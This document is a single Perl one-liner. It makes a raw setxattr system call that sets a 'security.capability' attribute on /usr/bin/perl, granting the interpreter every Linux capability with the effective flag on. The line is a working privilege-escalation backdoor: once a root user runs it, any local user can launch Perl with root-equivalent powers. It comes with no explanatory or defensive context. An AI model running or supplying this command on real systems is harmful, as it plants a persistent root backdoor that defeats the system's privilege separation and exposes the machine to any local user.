perl -e '$n = "security.capability"; $v = pack("V5", 0x02000001, 0xffffffff, 0, 0xff, 0); $p = "/usr/bin/perl"; exit(syscall(188, $p, $n, $v, length $v, 0) == 0 ? 0 : do { print "$!\n"; 1 })'
